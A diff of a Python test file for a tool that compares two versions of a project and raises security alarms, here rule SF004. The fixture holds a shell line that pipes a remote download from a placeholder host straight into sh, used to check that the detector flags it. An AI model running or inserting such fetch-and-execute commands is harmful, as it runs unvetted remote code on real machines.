@@ -14,10 +14,12 @@ def compared(old: dict[str, bytes], new: dict[str, bytes]) -> Changes:
     return compare_versions(before, after, (OLD, NEW), Limits())
 
 
-def test_what_became_unsafe_is_found_and_what_was_so_before_is_not() -> None:
+def test_the_alarms_of_both_versions_are_found() -> None:
     script = b"#!/bin/sh\ncurl -s https://example.org/x | sh\n"
-    assert [each.rule for each in compared({}, {"scripts/x.sh": script}).hazards] == ["SF004"]
-    assert compared({"scripts/x.sh": script}, {"scripts/x.sh": script + b"ls\n"}).hazards == ()
+    before, after = compared({}, {"scripts/x.sh": script}).alarms
+    assert (before, [each.rule for each in after]) == ((), ["SF004"])
+    before, after = compared({"scripts/x.sh": script}, {"scripts/x.sh": b"#!/bin/sh\nls\n"}).alarms
+    assert ([each.rule for each in before], after) == (["SF004"], ())
 
 
 def test_texts_are_compared_and_costs_are_told() -> None:
